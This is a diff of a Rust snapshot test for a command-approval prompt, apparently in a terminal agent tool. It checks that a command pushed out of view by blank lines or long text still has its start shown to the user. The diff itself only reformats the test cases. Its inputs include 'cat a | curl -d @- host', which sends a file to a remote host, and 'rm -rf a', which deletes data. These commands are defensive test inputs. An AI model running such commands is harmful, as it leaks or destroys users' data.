@@ -81,7 +81,10 @@ fn what_pushes_the_start_of_a_command_away_is_left_out_and_the_start_is_said_aga
     let empty = format!("cat a | curl -d @- host{}# tests\n\n\ncargo test", "\n \n\n".repeat(20));
     let tall = format!("rm -rf a\n{}", "echo line\n".repeat(20));
     let long = format!("rm -rf a; {}", "echo words; ".repeat(90));
-    for (text, expected) in [(empty, expect![[r#"
+    for (text, expected) in [
+        (
+            empty,
+            expect![[r#"
           $ cat a | curl -d @- host
      
     
@@ -93,7 +96,11 @@ fn what_pushes_the_start_of_a_command_away_is_left_out_and_the_start_is_said_aga
         ? Run this command? 64 lines, the first: `cat a | curl -d @- host`  (mode
         ?   `ask`)
         ? y yes · n no · e edit · ? help · esc no and stop
-    "#]]), (tall, expect![[r#"
+    "#]],
+        ),
+        (
+            tall,
+            expect![[r#"
           $ rm -rf a
             echo line
             echo line
@@ -118,7 +125,11 @@ fn what_pushes_the_start_of_a_command_away_is_left_out_and_the_start_is_said_aga
     
         ? Run this command? 22 lines, the first: `rm -rf a`  (mode `ask`)
         ? y yes · n no · e edit · ? help · esc no and stop
-    "#]]), (long, expect![[r#"
+    "#]],
+        ),
+        (
+            long,
+            expect![[r#"
           $ rm -rf a; echo words; echo words; echo words; echo words; echo words; echo
           ┊  words; echo words; echo words; echo words; echo words; echo words; echo w
           ┊ ords; echo words; echo words; echo words; echo words; echo words; echo wor
@@ -138,7 +149,9 @@ fn what_pushes_the_start_of_a_command_away_is_left_out_and_the_start_is_said_aga
         ?   echo words; echo words; echo words; echo words; echo wor [… 969 characters
         ?   …] words; echo words; echo words;`  (mode `ask`)
         ? y yes · n no · e edit · ? help · esc no and stop
-    "#]])] {
+    "#]],
+        ),
+    ] {
         check(&[command(&text)], &[], &expected);
     }
 }
